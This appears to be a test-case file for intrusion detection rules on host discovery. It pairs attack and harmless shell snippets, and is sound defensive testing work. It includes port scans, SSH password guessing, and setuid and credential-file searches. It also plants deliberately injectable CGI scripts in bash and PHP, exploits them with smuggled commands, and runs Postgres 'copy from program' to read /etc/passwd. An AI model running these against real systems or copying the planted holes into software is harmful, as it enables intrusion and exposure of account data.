# Discovery: what an intruder finds out about a host and its network.
#
# Rules that count by the address of the sender remember it from one deed to the next: each deed has one of its own.

#: port_scan attack: nmap from loopback
nmap -n -Pn -sS -p 1-60 127.0.0.1 > /dev/null

#: port_scan attack: nc
nc -n -z -w 1 203.0.113.5 20-60

#: port_scan attack: python over ipv6 loopback
python3 -c '
import socket
for port in range(1000, 1040):
    socket.socket(socket.AF_INET6).connect_ex(("::1", port))
'

#: port_scan attack: bash by alice
#: by alice
for port in {1..40}; do
    (exec 3<> /dev/tcp/2001:db8::5/$port) 2> /dev/null
done

#: port_scan attack: nmap over udp
ip address add 198.51.100.8/32 dev lo
nmap -n -Pn -sU --max-retries 0 -e lo -S 198.51.100.8 -p 1000-1040 203.0.113.5 > /dev/null

#: port_scan attack: python that finds all ports open
ip address add 198.51.100.7/32 dev lo
python3 -c '
import socket
servers = [socket.create_server(("203.0.113.5", port)) for port in range(7000, 7025)]
for server in servers:
    socket.create_connection(server.getsockname(), 1, ("198.51.100.7", 0)).close()
    server.accept()[0].close()
'

#: port_scan harmless: nineteen ports, and one port often
#: keep network.direction == "inbound" AND event.action == "connection_established"
ip address add 198.51.100.9/32 dev lo
python3 -c '
import socket
servers = [socket.create_server(("203.0.113.5", port)) for port in range(7000, 7010)]
for server in servers + servers[:1] * 40:
    socket.create_connection(server.getsockname(), 1, ("198.51.100.9", 0)).close()
    server.accept()[0].close()
for port in range(7100, 7109):
    peer = socket.socket()
    peer.bind(("198.51.100.9", 0))
    peer.connect_ex(("203.0.113.5", port))
'

#: port_scan harmless: tests start servers on this host and talk to them
#: keep network.direction == "inbound" AND event.action == "connection_established"
python3 -c '
import socket
for _ in range(40):
    server = socket.create_server(("127.0.0.9", 0))
    socket.create_connection(server.getsockname(), 1, ("127.0.0.9", 0)).close()
    server.accept()[0].close()
'

#: connection_flood_from_address attack: sshpass
/usr/sbin/sshd -o ListenAddress=203.0.113.5
ip address add 198.51.100.11/32 dev lo
until ss -ltn | grep -q '203.0.113.5:22 '; do sleep 0.02; done
for number in {1..24}; do
    timeout 2 sshpass -p "guess$number" ssh -b 198.51.100.11 -o StrictHostKeyChecking=accept-new -o NumberOfPasswordPrompts=1 alice@203.0.113.5 true 2> /dev/null &
done
wait $(jobs -p)

#: connection_flood_from_address attack: nc
/usr/sbin/sshd -o ListenAddress=203.0.113.5
ip address add 198.51.100.12/32 dev lo
until ss -ltn | grep -q '203.0.113.5:22 '; do sleep 0.02; done
for number in {1..25}; do
    nc -z -s 198.51.100.12 203.0.113.5 22
done

#: connection_flood_from_address harmless: a busy website, and a dozen of logins
#: keep network.direction == "inbound" AND event.action == "connection_established" AND destination.port in [22, 80]
/usr/sbin/sshd -o ListenAddress=203.0.113.5
ip address add 198.51.100.13/32 dev lo
until ss -ltn | grep -q '203.0.113.5:22 '; do sleep 0.02; done
for number in {1..12}; do
    nc -z -s 198.51.100.13 203.0.113.5 22
done
python3 -c '
import socket
server = socket.create_server(("203.0.113.5", 80))
for _ in range(60):
    socket.create_connection(("203.0.113.5", 80), 1, ("198.51.100.13", 0)).close()
    server.accept()[0].close()
'

#: port_scan_by_process attack: nc
nc -n -z -w 1 127.0.0.21 20-60

#: port_scan_by_process attack: bash by alice
#: by alice
for port in {1..40}; do
    (exec 3<> /dev/tcp/127.0.0.22/$port) 2> /dev/null
done

#: port_scan_by_process attack: nmap that connects
nmap -n -Pn -sT -p 1-60 127.0.0.23 > /dev/null

#: port_scan_by_process harmless: a program looks for a few services, and tests talk to their own
#: keep network.direction == "outbound" AND event.action in ["connection_failed", "connection_established"]
nc -n -z -w 1 127.0.0.24 8000-8012
python3 -c '
import socket
for _ in range(40):
    server = socket.create_server(("127.0.0.24", 0))
    socket.create_connection(server.getsockname(), 1).close()
    server.accept()[0].close()
'

#: network_sweep attack: python
ip route add local 10.9.8.0/24 dev lo
python3 -c '
import socket
for host in range(1, 40):
    socket.socket().connect_ex((f"10.9.8.{host}", 445))
'

#: network_sweep attack: nc by alice
#: by alice
for host in {1..30}; do
    nc -n -z -w 1 127.0.31.$host 6379
done

#: network_sweep harmless: many hosts answer, and a few do not
#: keep network.direction == "outbound" AND event.action in ["connection_failed", "connection_established"]
ip route add local 10.9.7.0/24 dev lo
python3 -c '
import socket
server = socket.create_server(("0.0.0.0", 9100))
for host in range(1, 40):
    socket.create_connection((f"10.9.7.{host}", 9100), 1).close()
    server.accept()[0].close()
for host in range(1, 12):
    socket.socket().connect_ex((f"10.9.7.{host}", 9101))
'

#: scanner_run attack: nmap
nmap -n -sn 203.0.113.5

#: scanner_run attack: nikto
# Not Debian's main archive: a script under its name.
printf '#!/bin/sh\ntrue\n' > /usr/local/bin/nikto
chmod 755 /usr/local/bin/nikto
nikto -h 127.0.0.1

#: scanner_run harmless: its version, and a program of a like name
#: keep event.action == "exec" AND process.name in ["nmap", "nmapper"]
nmap --version > /dev/null
cp /bin/true /usr/local/bin/nmapper
nmapper 127.0.0.1

#: many_discovery_commands attack: by hand
whoami; id; w; last; ps aux; ss -ltnp; ip address; lsblk; df -h; getent passwd; uname -a
exit 0

#: many_discovery_commands attack: by alice through ssh
#: by alice
mkdir -m 700 ~/.ssh
ssh-keygen -q -t ed25519 -N '' -f ~/.ssh/id_ed25519
cp ~/.ssh/id_ed25519.pub ~/.ssh/authorized_keys
sudo /usr/sbin/sshd -o ListenAddress=203.0.113.5
until ss -ltn | grep -q '203.0.113.5:22 '; do sleep 0.02; done
ssh -o StrictHostKeyChecking=accept-new alice@203.0.113.5 'whoami; groups; w; last; ps aux; ss -ltn; netstat -rn; lsblk; df; free; uptime' > /dev/null 2>&1

#: many_discovery_commands harmless: a script configures a build
#: keep event.action == "exec" AND process.name in ["ps", "getent", "lscpu", "free", "df", "uptime", "groups", "whoami", "uname", "hostname"]
mkdir /root/src; cd /root/src
printf '#!/bin/sh\nuname -m; uname -r; hostname; id -u; arch; whoami; groups; ps; df .; free; lscpu; getent hosts localhost; uptime\n' > configure
chmod 755 configure
./configure > /dev/null

#: many_discovery_commands harmless: somebody looks why the host is slow
#: keep event.action == "exec" AND process.name in ["ps", "w", "uptime", "free", "df", "ss"]
uptime; w; free; df; ps aux; ss -s

#: setuid_files_searched attack: find
find /usr/bin -perm -4000 -type f

#: setuid_files_searched attack: find by alice
#: by alice
find / -xdev -perm -u=s -type f 2> /dev/null

#: setuid_files_searched attack: getcap
getcap -r /usr/bin

#: setuid_files_searched harmless: other permissions, and one file
#: keep event.action == "exec" AND process.name in ["find", "getcap"]
find /etc/ssh -perm 644
find /var/log -type f -perm /022
getcap /usr/bin/ping

#: writable_files_searched attack: find by alice
#: by alice
find /etc -writable -type f 2> /dev/null

#: writable_files_searched attack: find
find / -xdev -type d -perm -0002 > /dev/null

#: writable_files_searched harmless: in one's own folder, and what may be read
#: keep event.action == "exec" AND process.name == "find"
#: by alice
find . -writable
find /etc/ssh -perm -o+r

#: enumeration_tool_run attack: linpeas
# Not Debian's: a script under its name.
printf 'find /usr/bin -perm -4000 -type f > /dev/null\n' > /tmp/linpeas.sh
sh /tmp/linpeas.sh

#: enumeration_tool_run attack: pspy by alice
#: by alice
cp /bin/true /tmp/pspy64
/tmp/pspy64

#: enumeration_tool_run attack: linuxprivchecker
echo 'print(1)' > /tmp/linuxprivchecker.py
python3 /tmp/linuxprivchecker.py

#: enumeration_tool_run harmless: scripts of like names
#: keep event.action == "exec" AND process.name in ["sh", "less.sh", "peas.sh"]
printf '#!/bin/sh\ntrue\n' > /tmp/less.sh
cp /tmp/less.sh /tmp/peas.sh
chmod 755 /tmp/less.sh /tmp/peas.sh
/tmp/less.sh
/tmp/peas.sh
sh /tmp/less.sh

#: accounts_listed_by_service attack: a command in a request
mkdir -p /usr/lib/cgi-bin
printf '#!/bin/bash\necho "Content-Type: text/plain"\necho\neval "echo pinging $(printf %%b "${QUERY_STRING//%%/\\\\x}")"\n' > /usr/lib/cgi-bin/ping
chmod 755 /usr/lib/cgi-bin/ping
echo 'ServerName localhost' >> /etc/apache2/apache2.conf
a2enmod -q cgid
apache2ctl start
until ss -ltn | grep -q ':80 '; do sleep 0.02; done
curl -s 'http://127.0.0.1/cgi-bin/ping?host;getent%20passwd'
apache2ctl stop

#: accounts_listed_by_service attack: postgres
su postgres -c '/usr/lib/postgresql/15/bin/initdb -D /tmp/db -A trust' > /dev/null
su postgres -c '/usr/lib/postgresql/15/bin/pg_ctl -w -D /tmp/db -o "-k /tmp -h 127.0.0.1" -l /tmp/db.log start' > /dev/null
su postgres -c "psql -h 127.0.0.1 -c \"create table t (x text)\" -c \"copy t from program 'cat /etc/passwd'\""
su postgres -c '/usr/lib/postgresql/15/bin/pg_ctl -m immediate -D /tmp/db stop' > /dev/null

#: accounts_listed_by_service harmless: a script of the website, and an administrator
#: keep event.action == "exec" AND process.name in ["date", "id", "hello"]
mkdir -p /usr/lib/cgi-bin
printf '#!/bin/sh\necho "Content-Type: text/plain"\necho\ndate\n' > /usr/lib/cgi-bin/hello
chmod 755 /usr/lib/cgi-bin/hello
echo 'ServerName localhost' >> /etc/apache2/apache2.conf
a2enmod -q cgid
apache2ctl start
until ss -ltn | grep -q ':80 '; do sleep 0.02; done
curl -s http://127.0.0.1/cgi-bin/hello
id
apache2ctl stop

#: system_explored_by_service attack: a page of php
mkdir -p /usr/lib/cgi-bin
printf '#!/usr/bin/php\n<?php echo "Content-Type: text/plain\\r\\n\\r\\n"; system(urldecode(getenv("QUERY_STRING")));\n' > /usr/lib/cgi-bin/x
chmod 755 /usr/lib/cgi-bin/x
echo 'ServerName localhost' >> /etc/apache2/apache2.conf
a2enmod -q cgid
apache2ctl start
until ss -ltn | grep -q ':80 '; do sleep 0.02; done
curl -s 'http://127.0.0.1/cgi-bin/x?uname%20-a'
apache2ctl stop

#: system_explored_by_service attack: postgres
su postgres -c '/usr/lib/postgresql/15/bin/initdb -D /tmp/db -A trust' > /dev/null
su postgres -c '/usr/lib/postgresql/15/bin/pg_ctl -w -D /tmp/db -o "-k /tmp -h 127.0.0.1" -l /tmp/db.log start' > /dev/null
su postgres -c "psql -h 127.0.0.1 -c \"create table t (x text)\" -c \"copy t from program 'ps aux'\""
su postgres -c '/usr/lib/postgresql/15/bin/pg_ctl -m immediate -D /tmp/db stop' > /dev/null

#: system_explored_by_service harmless: a database starts, and an administrator looks at it
#: keep event.action == "exec" AND process.name in ["postgres", "ps", "uname"]
su postgres -c '/usr/lib/postgresql/15/bin/initdb -D /tmp/db -A trust' > /dev/null
su postgres -c '/usr/lib/postgresql/15/bin/pg_ctl -w -D /tmp/db -o "-k /tmp -h 127.0.0.1" -l /tmp/db.log start' > /dev/null
ps aux > /dev/null
uname -a
su postgres -c '/usr/lib/postgresql/15/bin/pg_ctl -m immediate -D /tmp/db stop' > /dev/null

#: security_software_discovered attack: ps and grep
ps aux | grep -E 'falco|auditd|osquery|wazuh'

#: security_software_discovered attack: systemctl by alice
#: by alice
systemctl is-active auditd

#: security_software_discovered harmless: another service, and a word in a tree of source
#: keep event.action == "exec" AND process.name in ["grep", "systemctl"]
systemctl status cron
mkdir /root/src; cd /root/src; echo 'auditd' > a
grep -r auditd .
ps aux | grep -c apache

#: sudo_rights_listed attack: sudo by alice
#: by alice
sudo -l

#: sudo_rights_listed attack: sudo without asking by alice
#: by alice
sudo -n --list

#: sudo_rights_listed harmless: sudo runs a command that has such an option
#: keep event.action == "exec" AND process.name == "sudo"
#: by alice
sudo ls -l /root
